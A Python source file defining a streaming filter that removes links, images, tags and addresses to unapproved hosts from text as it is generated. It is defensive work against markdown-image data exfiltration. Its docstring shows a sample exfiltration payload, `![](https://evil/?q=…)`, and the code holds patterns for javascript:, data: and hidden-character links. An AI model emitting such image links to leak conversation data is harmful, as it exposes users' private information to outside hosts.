"""Takes links and pictures to unknown places out of a text that is still being written.

A link is how a text leads people, or what they said, somewhere else: `![](https://evil/?q=…)`. What
is held back is little: the word that is not whole yet, and a bracket that is not closed.
"""

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

REMOVED = "[…]"

_MOST_HELD = 2_000
_MOST_OPEN = 400
_LONG_WORD = 120
_UNSPACED = r"\u0e00-\u0eff\u1000-\u109f\u1780-\u17ff\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af"
_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\([^)\n]{0,1900}\)")
_LINK = re.compile(r"\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{0,1900})[^)\n]{0,300}\)")
_REFERENCE = re.compile(r"^\s{0,3}\[[^\]\n]{1,100}\]:\s*\S+.*$", re.MULTILINE)
_TAG = re.compile(r"</?[A-Za-z!][^<>]{0,1900}>")
_ADDRESS = re.compile(
    r"""
      [a-z][a-z0-9+.-]{1,20}:/{1,3}[^\s<>"']+      # any scheme
    | (?:javascript|data|vbscript):[^\s]*
    | mailto:[^\s<>"']+
    | (?<![:a-z0-9_/])//[\w-][^\s<>"']*
    | www\.[^\s<>"']+
    | (?<![a-z0-9@.-])(?:[\w-]{1,63}\.){1,8}(?:[^\W\d_]{2,24}|xn--[a-z0-9-]{1,59})
      (?::\d{1,5})?[/?\#][^\s<>"']*
    | (?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?::\d|[/?\#])[^\s<>"']*
    """,
    re.IGNORECASE | re.VERBOSE,
)
# Persian words and emoji need joiners, Korean its fillers; beside a letter, a colon or a dot of
# ASCII what cannot be seen hides a link.
_UNSEEN = r"[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180d\u200c\u200d\u3164\uffa0]+"
_HIDING = re.compile(rf"(?<=[!-~]){_UNSEEN}|{_UNSEEN}(?=[!-~])")
# A stop after such a letter ends a sentence; after one of ASCII it may be the dot of a host.
_STOP = re.compile(rf"[{_UNSPACED}][。！？、，；：」』）]+")
_BETWEEN = re.compile(rf"(?<=[{_UNSPACED}])(?=[{_UNSPACED}])")
_AUTOLINK = re.compile(r"<((?:https?)://[^<>\s]{1,1900})>", re.IGNORECASE)
_TRAILING = ".,;:!?)]}*_"


class LinkFilter:
    """Filters one text.

    Args:
        hosts: whose addresses may stay, in small letters.
    """

    def __init__(self, hosts: Iterable[str]) -> None:
        self._hosts = frozenset(hosts)
        self._held = ""

    def feed(self, piece: str) -> str:
        """Take a piece in and return what can be shown now."""
        self._held += piece
        at = _find_border(self._held)
        if at == 0 and len(self._held) > _MOST_HELD:
            # No honest word is so long.
            self._held = ""
            return REMOVED
        ready, self._held = self._held[:at], self._held[at:]
        return self.filter_whole(ready)

    def finish(self) -> str:
        """Return the rest."""
        ready, self._held = self._held, ""
        return self.filter_whole(ready)

    def filter_whole(self, text: str) -> str:
        """Return a text that is whole without links and pictures to unknown places."""
        text = _HIDING.sub("", text)
        text = _IMAGE.sub(r"\1", text)
        text = _LINK.sub(self._replace_link, text)
        text = _REFERENCE.sub("", text)
        text = _AUTOLINK.sub(r"\1", text)
        text = _TAG.sub("", text)
        return _ADDRESS.sub(self._replace_address, text)

    def _replace_link(self, match: "re.Match[str]") -> str:
        label, url = match[1], match[2]
        if not self._is_known(url):
            return label
        return f"{label} ({url})" if label != url else url

    def _replace_address(self, match: "re.Match[str]") -> str:
        url = match[0].rstrip(_TRAILING)
        tail = match[0][len(url) :]
        return match[0] if self._is_known(url) else f"{REMOVED}{tail}"

    def _is_known(self, url: str) -> bool:
        try:
            parts = urlsplit(url)
            host = parts.hostname or ""
        except ValueError:
            return False
        is_plain = parts.scheme in ("http", "https") and "\\" not in url and "@" not in parts.netloc
        return is_plain and host.lower() in self._hosts


def _find_border(text: str) -> int:
    """Return up to where a text is whole: before its last word, and before what is still open."""
    at = _find_word(text)
    for begins, find_end in (("[", _find_link_end), ("<", _find_tag_end)):
        opened = text.rfind(begins, 0, at)
        if opened >= 0 and find_end(text, opened) > at:
            # With the word it stands in: what is taken out must not glue two pieces to a link.
            at = _find_word(text[:opened])
    return at


def _find_word(text: str) -> int:
    """Return where the last word of a text begins, with the space before it.

    Languages without spaces have borders where a sentence ends, or anywhere in a very long "word".
    """
    spaced = len(text[: max(text.rfind(" "), text.rfind("\n")) + 1].rstrip())
    stops = [one.end() for one in _STOP.finditer(text, spaced)]
    at = stops[-1] if stops else spaced
    if len(text) - at > _LONG_WORD:
        return max((one.start() for one in _BETWEEN.finditer(text, at)), default=at)
    return at


def _find_tag_end(text: str, opened: int) -> int:
    """Return where a tag ends, behind the text's end while it is open; `opened` for no tag."""
    after = text[opened + 1 : opened + 2]
    if not (after.isalpha() or after in ("/", "!")):
        return opened
    end = text.find(">", opened)
    return end + 1 if end >= 0 else len(text) + 1


def _find_link_end(text: str, opened: int) -> int:
    """Return where a link in brackets ends, behind the text's end while it is open."""
    end = text.find("]", opened)
    label = text[opened : end if end >= 0 else None]
    if "\n" in label or len(label) > _MOST_OPEN:
        return opened
    if end < 0 or end + 1 == len(text):
        return len(text) + 1
    if text[end + 1] != "(":
        return end + 1
    close, line = text.find(")", end), text.find("\n", end)
    if 0 <= line < close or (close < 0 and line >= 0):
        return opened
    return close + 1 if close >= 0 else len(text) + 1
